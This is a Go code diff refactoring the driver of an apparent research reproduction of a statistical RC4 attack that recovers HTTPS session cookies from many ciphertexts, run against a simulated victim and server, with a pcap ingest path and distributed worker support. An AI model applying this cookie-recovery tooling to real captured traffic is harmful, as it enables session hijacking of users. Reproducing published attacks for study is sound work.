@@ -51,25 +51,19 @@
 package main
 
 import (
-	"bytes"
-	"context"
 	"errors"
 	"flag"
 	"fmt"
-	"math/rand"
 	"os"
-	"os/signal"
 	"time"
 
 	"rc4break/internal/cliutil"
 	"rc4break/internal/cookieattack"
-	"rc4break/internal/fleet"
 	"rc4break/internal/httpmodel"
+	"rc4break/internal/job"
 	"rc4break/internal/netsim"
-	"rc4break/internal/obs"
 	"rc4break/internal/online"
 	"rc4break/internal/snapshot"
-	"rc4break/internal/tlsrec"
 	"rc4break/internal/trace"
 )
 
@@ -100,25 +94,11 @@ func main() {
 		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(*secret)))
 	}
 	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
-	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", *secret, 64)
+	cfg, req, err := job.CookieLayout(*secret)
 	if err != nil {
 		fatal(err)
 	}
-	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", req.CookieOffset(), counterBase)
-
-	cfg := cookieattack.Config{
-		CookieLen:   16,
-		Offset:      req.CookieOffset(),
-		Plaintext:   req.Marshal(),
-		CounterBase: counterBase,
-		MaxGap:      128,
-		Charset:     httpmodel.CookieCharset(),
-	}
-	attack, err := cookieattack.New(cfg)
-	if err != nil {
-		fatal(err)
-	}
-	attack.Workers = *workers
+	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", cfg.Offset, cfg.CounterBase)
 
 	if *writePcap != "" {
 		if err := writeCookiePcap(*writePcap, req, *seed, *ciphertexts); err != nil {
@@ -126,47 +106,54 @@ func main() {
 		}
 		return
 	}
-	var pcapPaths []string
+	spec := job.Spec{Attack: "cookie", Mode: *mode, Seed: *seed, Secret: *secret, Workers: *workers}
 	if *pcapIn != "" {
-		pcapPaths, err = cliutil.ExpandGlobs(*pcapIn)
-		if err != nil {
+		if spec.Traces, err = cliutil.ExpandGlobs(*pcapIn); err != nil {
 			fatal(fmt.Errorf("-pcap: %w", err))
 		}
 	}
 
 	if *fleetWorker != "" {
-		runFleetWorker(*fleetWorker, *workerID, attack.Fingerprint(), cfg, req, *secret, *workers, pcapPaths)
+		// Model-mode lanes draw their sufficient statistics from the lane's
+		// derived seed; exact-mode lanes replay the victim stream from the
+		// lane's absolute offset, or carve it out of the -pcap trace shards.
+		if err := spec.RunWorker(*fleetWorker, *workerID); err != nil {
+			fatal(err)
+		}
 		return
 	}
-
-	if *resume != "" {
-		resumed, err := cookieattack.ReadSnapshotFile(*resume)
-		if err != nil {
-			fatal(fmt.Errorf("resume %s: %w", *resume, err))
-		}
-		if resumed.Fingerprint() != attack.Fingerprint() {
-			fatal(fmt.Errorf("resume %s: snapshot was captured against a different request layout (check -secret)", *resume))
-		}
-		resumed.Workers = *workers
-		attack = resumed
-		fmt.Printf("      resumed %s: %d records of evidence\n", *resume, attack.Records)
-	}
-
-	anchors := attack.AnchorsPerPair()
-	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))
-
 	if *onlineMode {
 		if *collectOnly || *merge != "" {
 			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
 		}
-		if pcapPaths != nil {
+		if spec.Traces != nil {
 			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
 		}
+	}
+
+	var evidence []byte
+	if *resume != "" {
+		if evidence, err = os.ReadFile(*resume); err != nil {
+			fatal(fmt.Errorf("resume %s: %w", *resume, err))
+		}
+	}
+	rt, err := job.New(spec, evidence)
+	if err != nil {
+		fatal(err)
+	}
+	if *resume != "" {
+		fmt.Printf("      resumed %s: %d records of evidence\n", *resume, rt.Observed())
+	}
+	attack := rt.Decoder.(*cookieattack.Attack)
+	anchors := attack.AnchorsPerPair()
+	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))
+
+	if *onlineMode {
 		depth := *maxPerRound
 		if depth <= 0 {
 			depth = *candidates
 		}
-		runOnline(attack, req, *secret, *mode, *seed, *ciphertexts,
+		runOnline(rt, *secret, *mode, *ciphertexts,
 			online.Cadence{First: *firstDecode, Every: *decodeEvery},
 			depth, *checkpoint, *checkpointEvery, *jsonOut)
 		return
@@ -177,68 +164,27 @@ func main() {
 		remaining = *ciphertexts - attack.Records
 	}
 	displayMode := *mode
-	if *pcapIn != "" {
+	if spec.Traces != nil {
 		displayMode = "trace"
 	}
 	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
 		remaining, displayMode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
 		netsim.HTTPSRequestsPerSecond)
 	start := time.Now()
-	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
-	if pcapPaths != nil {
-		// A trace-fed shard's stream identity is the file set: resuming it
-		// skips the observations the snapshot already holds, and merging
-		// two ingests of the same files is rejected as double-counting.
-		streamID = snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(pcapPaths)}
-	}
-	switch {
-	case remaining == 0:
+	if remaining == 0 {
 		fmt.Println("      shard target already reached by resumed evidence")
-	case pcapPaths != nil:
-		if attack.Records > 0 && attack.Stream != streamID {
-			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, -pcap names a different capture set",
-				attack.Stream.Mode, attack.Stream.Seed))
-		}
-		attack.Stream = streamID
-		ingestStart := time.Now()
-		stats, err := cookieattack.CollectTraceFiles(attack, len(cfg.Plaintext)+tlsrec.MACSize,
-			pcapPaths, attack.Records, remaining, false)
-		if err != nil {
-			fatal(err)
-		}
-		fmt.Printf("      trace ingest: %d packets, %d TLS records (%d matched, %d other), %d flows abandoned\n",
-			stats.Packets, stats.Records, stats.Matched, stats.OtherRecords, stats.DeadFlows)
-		mb := float64(stats.Bytes) / (1 << 20)
-		fmt.Printf("      ingested %.1f MB of capture payload at %.1f MB/s\n",
-			mb, mb/time.Since(ingestStart).Seconds())
-	case *mode == "exact":
-		// An exact-mode shard can only be continued on its own cipher
-		// stream: the fast-forward below assumes the snapshot's records
-		// came from exactly this victim.
-		if attack.Records > 0 && attack.Stream != streamID {
-			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
-				attack.Stream.Mode, attack.Stream.Seed, *seed))
-		}
-		attack.Stream = streamID
-		collectExact(attack, req, remaining, *seed, *checkpoint, *checkpointEvery)
-	case *mode == "model":
-		attack.Stream = streamID
-		// A topped-up shard must not replay the noise draws already folded
-		// into the resumed snapshot (same seed, same sequence): derive a
-		// distinct stream from the continuation point.
-		rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(*seed, attack.Records)))
-		if err := attack.SimulateStatistics(rng, []byte(*secret), remaining); err != nil {
-			fatal(err)
-		}
-	default:
-		fatal(fmt.Errorf("unknown mode %q", *mode))
+	} else if err := rt.Checkpointed(*checkpoint, *checkpointEvery)(*ciphertexts); err != nil {
+		fatal(err)
+	}
+	if summary := rt.Summary(); summary != "" {
+		fmt.Printf("      %s\n", summary)
 	}
 	collectTime := time.Since(start)
 	fmt.Printf("      collected in %v (shard evidence: %d records)\n",
 		collectTime.Round(time.Millisecond), attack.Records)
 
 	if *checkpoint != "" {
-		if err := attack.WriteSnapshotFile(*checkpoint); err != nil {
+		if err := rt.SaveFile(*checkpoint); err != nil {
 			fatal(err)
 		}
 		fmt.Printf("      snapshot -> %s\n", *checkpoint)
@@ -274,7 +220,7 @@ func main() {
 	}
 
 	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
-	server := &netsim.CookieServer{Secret: []byte(*secret)}
+	server := rt.Oracle.(*netsim.CookieServer)
 	start = time.Now()
 	cands, err := attack.Candidates(*candidates)
 	decodeTime := time.Since(start)
@@ -320,209 +266,38 @@ func emitJSON(enabled bool, r cliutil.RunResult) {
 	}
 }
 
-// runFleetWorker joins a cmd/fleetd coordinator and collects leased capture
-// lanes until the coordinator declares the run over. Model-mode lanes draw
-// their sufficient statistics from the lane's derived seed; exact-mode
-// lanes replay the victim stream from the lane's absolute offset (the
-// victim's cipher stream is fast-forwarded at raw PRGA speed) — or, when
-// -pcap names trace shards, carve the lane's observation range out of the
-// files. Every lane is a pure function of the job, so re-captures after a
-// lease expiry are byte-identical.
-func runFleetWorker(addr, id string, fp [16]byte, cfg cookieattack.Config, req httpmodel.Request, secret string, workers int, pcapPaths []string) {
-	proc := id
-	if proc == "" {
-		proc = "cookieattack-worker"
-	}
-	w := &fleet.Worker{
-		Addr:        addr,
-		ID:          id,
-		Attack:      "cookie",
-		Fingerprint: fp,
-		Logf:        cliutil.IndentLogf,
-		// Per-lane collect spans ride each evidence upload; a traced
-		// coordinator folds them under its own trace, an untraced one
-		// ignores them.
-		Tracer: obs.NewJournal(proc, 1024),
-		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
-			a, err := collectCookieLane(cfg, req, secret, job, lease, workers, pcapPaths)
-			if err != nil {
-				return nil, err
-			}
-			var buf bytes.Buffer
-			if err := a.WriteSnapshot(&buf); err != nil {
-				return nil, err
-			}
-			return buf.Bytes(), nil
-		},
-	}
-	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
-	defer stop()
-	fmt.Printf("[2/2] fleet worker joining %s...\n", addr)
-	stats, err := w.Run(ctx)
-	fmt.Printf("      worker done: %d lanes (%d records) uploaded, %d rejected as already covered\n",
-		stats.Lanes, stats.Records, stats.Rejected)
-	if stats.StopReason != "" {
-		fmt.Printf("      coordinator: %s\n", stats.StopReason)
-	}
-	if err != nil {
-		fatal(err)
-	}
-}
-
-// collectCookieLane captures one leased lane into a fresh evidence
-// accumulator stamped with the lane's stream identity.
-func collectCookieLane(cfg cookieattack.Config, req httpmodel.Request, secret string, job fleet.JobSpec, lease fleet.Lease, workers int, pcapPaths []string) (*cookieattack.Attack, error) {
-	switch job.Mode {
-	case "model":
-		if pcapPaths != nil {
-			return nil, errors.New("-pcap serves exact-mode jobs: a trace is one concrete capture stream, not a statistical model")
-		}
-		return cookieattack.CollectLane(cfg, []byte(secret), lease.Stream,
-			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
-	case "exact":
-		a, err := cookieattack.New(cfg)
-		if err != nil {
-			return nil, err
-		}
-		a.Workers = workers
-		a.Stream = lease.Stream
-		if pcapPaths != nil {
-			// Serve the lane from the trace shards: the files concatenate
-			// into one logical stream, and the lane's observation range is
-			// carved out strictly — a shard set that cannot cover the lane
-			// fails loudly rather than uploading short evidence.
-			_, err := cookieattack.CollectTraceFiles(a, len(cfg.Plaintext)+tlsrec.MACSize,
-				pcapPaths, lease.Start, lease.Records, true)
-			if err != nil {
-				return nil, err
-			}
-			return a, nil
-		}
-		master := make([]byte, 48)
-		rand.New(rand.NewSource(job.Seed)).Read(master)
-		victim, err := netsim.NewHTTPSVictim(master, req)
-		if err != nil {
-			return nil, err
-		}
-		victim.Skip(lease.Start) // raw PRGA fast-forward to the lane's offset
-		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
-		var observeErr error
-		for i := uint64(0); i < lease.Records; i++ {
-			rec := victim.SendRequest()
-			if err := collector.Feed(rec, func(body []byte) {
-				if err := a.ObserveRecord(body); err != nil && observeErr == nil {
-					observeErr = err
-				}
-			}); err != nil {
-				return nil, err
-			}
-			if observeErr != nil {
-				return nil, observeErr
-			}
-		}
-		return a, nil
-	default:
-		return nil, fmt.Errorf("unknown fleet mode %q", job.Mode)
-	}
-}
-
 // runOnline drives the §6.2 closed loop: capture to the next cadence point
 // (model-mode sufficient statistics or exact records through the scanner),
 // decode the candidate list, brute-force it against the server, and stop at
 // the first confirmed cookie. Decode points are absolute record counts, so
 // a checkpointed run that is killed and resumed (-checkpoint/-resume)
 // continues on exactly the cadence an uninterrupted run would use.
-func runOnline(attack *cookieattack.Attack, req httpmodel.Request, secret, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
-	if budget <= attack.Records {
-		fatal(fmt.Errorf("online: budget %d already reached by resumed evidence (%d records)", budget, attack.Records))
+func runOnline(rt *job.Runtime, secret, mode string, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
+	if budget <= rt.Observed() {
+		fatal(fmt.Errorf("online: budget %d already reached by resumed evidence (%d records)", budget, rt.Observed()))
 	}
-	server := &netsim.CookieServer{Secret: []byte(secret)}
-	streamID := snapshot.StreamInfo{Mode: mode, Seed: seed}
-
-	var captureTo func(uint64) error
-	switch mode {
-	case "model":
-		if attack.Records > 0 && attack.Stream != streamID {
-			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request model/seed %d",
-				attack.Stream.Mode, attack.Stream.Seed, seed))
-		}
-		attack.Stream = streamID
-		captureTo = func(target uint64) error {
-			// Chunks after the first derive a fresh noise stream from the
-			// continuation point, exactly like a resumed offline top-up —
-			// and since decode points are absolute, a resumed online run
-			// chunks (and therefore draws) identically to an uninterrupted
-			// one.
-			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(seed, attack.Records)))
-			return attack.SimulateStatistics(rng, []byte(secret), target-attack.Records)
-		}
-	case "exact":
-		if attack.Records > 0 && attack.Stream != streamID {
-			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
-				attack.Stream.Mode, attack.Stream.Seed, seed))
-		}
-		attack.Stream = streamID
-		master := make([]byte, 48)
-		rand.New(rand.NewSource(seed)).Read(master)
-		victim, err := netsim.NewHTTPSVictim(master, req)
-		if err != nil {
-			fatal(err)
-		}
-		if attack.Records > 0 {
-			fmt.Printf("      fast-forwarding victim stream past %d resumed records...\n", attack.Records)
-			victim.Skip(attack.Records)
-		}
-		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
-		captureTo = func(target uint64) error {
-			var observeErr error
-			err := cliutil.CheckpointLoop{
-				Iterations: target - attack.Records,
-				Path:       checkpoint,
-				Every:      checkpointEvery,
-				Unit:       "records",
-				Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
-				Progress:   func() uint64 { return attack.Records },
-				Step: func() (bool, error) {
-					rec := victim.SendRequest()
-					if err := collector.Feed(rec, func(body []byte) {
-						if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
-							observeErr = err
-						}
-					}); err != nil {
-						return false, err
-					}
-					return true, observeErr
-				},
-			}.Run()
-			if errors.Is(err, cliutil.ErrInterrupted) {
-				os.Exit(130)
-			}
-			return err
-		}
-	default:
-		fatal(fmt.Errorf("unknown mode %q", mode))
-	}
-
 	fmt.Printf("[2/3] online closed loop: budget %d records, first decode at %d, %s cadence, %d candidates/round...\n",
 		budget, cad.First, cad, depth)
 	res, err := online.Run(online.Config{
-		Decoder:       attack,
-		Oracle:        server,
+		Decoder:       rt.Decoder,
+		Oracle:        rt.Oracle,
 		Cadence:       cad,
 		MaxCandidates: depth,
 		Budget:        budget,
-		CaptureTo:     captureTo,
-		Checkpoint: cliutil.OnlineCheckpoint(checkpoint, "records",
-			attack.WriteSnapshotFile, func() uint64 { return attack.Records }),
-		Logf: cliutil.IndentLogf,
+		Feed:          online.FeedFunc(rt.Checkpointed(checkpoint, checkpointEvery)),
+		Checkpoint:    cliutil.OnlineCheckpoint(checkpoint, rt.Unit, rt.SaveFile, rt.Observed),
+		Logf:          cliutil.IndentLogf,
 	})
+	if errors.Is(err, cliutil.ErrInterrupted) {
+		fatal(err)
+	}
 	if err != nil {
 		fmt.Printf("      online attack failed: %v (budget %d records; try a deeper list or a larger budget)\n", err, budget)
 		emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, err))
 		os.Exit(1)
 	}
 	if checkpoint != "" {
-		if err := attack.WriteSnapshotFile(checkpoint); err != nil {
+		if err := rt.SaveFile(checkpoint); err != nil {
 			fatal(err)
 		}
 	}
@@ -543,68 +318,13 @@ func runOnline(attack *cookieattack.Attack, req httpmodel.Request, secret, mode 
 	emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, nil))
 }
 
-// collectExact drives the real TLS pipeline: the victim seals requests on a
-// persistent connection, the §6.3 scanner reassembles and filters them, and
-// the attack folds each record in. The loop checkpoints every
-// checkpointEvery records and flushes a final checkpoint on Ctrl-C/SIGTERM,
-// so a killed capture resumes exactly where it stopped: the victim derives
-// its keys from the shard seed and its cipher stream is fast-forwarded past
-// the records the snapshot already holds, making an interrupted-and-resumed
-// run byte-identical to an uninterrupted one.
-func collectExact(attack *cookieattack.Attack, req httpmodel.Request, remaining uint64, seed int64, checkpoint string, checkpointEvery uint64) {
-	master := make([]byte, 48)
-	rand.New(rand.NewSource(seed)).Read(master)
-	victim, err := netsim.NewHTTPSVictim(master, req)
-	if err != nil {
-		fatal(err)
-	}
-	if attack.Records > 0 {
-		fmt.Printf("      fast-forwarding victim stream past %d resumed records...\n", attack.Records)
-		victim.Skip(attack.Records) // raw PRGA skip: no HMAC or record assembly
-	}
-
-	// The victim's records flow through the §6.3 stream scanner, which
-	// reassembles TLS framing and filters the fixed-size requests.
-	collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
-	var observeErr error
-	err = cliutil.CheckpointLoop{
-		Iterations: remaining,
-		Path:       checkpoint,
-		Every:      checkpointEvery,
-		Unit:       "records",
-		Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
-		Progress:   func() uint64 { return attack.Records },
-		Step: func() (bool, error) {
-			rec := victim.SendRequest()
-			if err := collector.Feed(rec, func(body []byte) {
-				if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
-					observeErr = err
-				}
-			}); err != nil {
-				return false, err
-			}
-			return true, observeErr
-		},
-	}.Run()
-	if errors.Is(err, cliutil.ErrInterrupted) {
-		os.Exit(130)
-	}
-	if err != nil {
-		fatal(err)
-	}
-	fmt.Printf("      scanner matched %d records, dropped %d other\n",
-		collector.Matched, collector.Other)
-}
-
 // writeCookiePcap writes n records of the seed-derived exact-mode victim
 // stream as a capture file — the sim → pcap half of the round trip, and
 // the way trace shards for offline or fleet ingest are produced. The
 // extension picks the container: .pcapng writes pcapng, anything else
 // classic pcap.
 func writeCookiePcap(path string, req httpmodel.Request, seed int64, n uint64) error {
-	master := make([]byte, 48)
-	rand.New(rand.NewSource(seed)).Read(master)
-	victim, err := netsim.NewHTTPSVictim(master, req)
+	victim, err := job.HTTPSVictim(seed, req)
 	if err != nil {
 		return err
 	}
@@ -653,7 +373,12 @@ func maxInt(xs []int) int {
 	return m
 }
 
+// fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
+// flush the capture loop already reported).
 func fatal(err error) {
+	if errors.Is(err, cliutil.ErrInterrupted) {
+		os.Exit(130)
+	}
 	fmt.Fprintln(os.Stderr, "cookieattack:", err)
 	os.Exit(1)
 }
